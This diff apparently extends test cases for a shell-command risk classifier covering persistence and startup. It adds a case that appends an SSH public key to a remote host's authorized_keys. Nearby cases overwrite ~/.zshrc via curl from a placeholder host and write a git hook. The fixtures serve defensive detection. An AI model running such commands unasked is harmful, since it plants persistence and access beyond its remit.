@@ -93,6 +93,10 @@ export const persistenceStartupCases: CallCheckCases = {
     'a server for an agent': ['claude mcp add helper -- npx -y some-helper', 'high'],
     'a startup file fetched in one go': ['curl -o ~/.zshrc https://mirror.example/rc', 'critical'],
     'a repository hook': ["echo 'npm test' > .git/hooks/pre-commit", 'medium'],
+    'a key of one’s own put on a machine of one’s own': [
+      "cat ~/.ssh/id_ed25519.pub | ssh me@build.internal 'cat >> ~/.ssh/authorized_keys'",
+      'high',
+    ],
   },
   passes: {
     'a filter that came with a tool': "git config filter.lfs.clean 'git-lfs clean -- %f'",
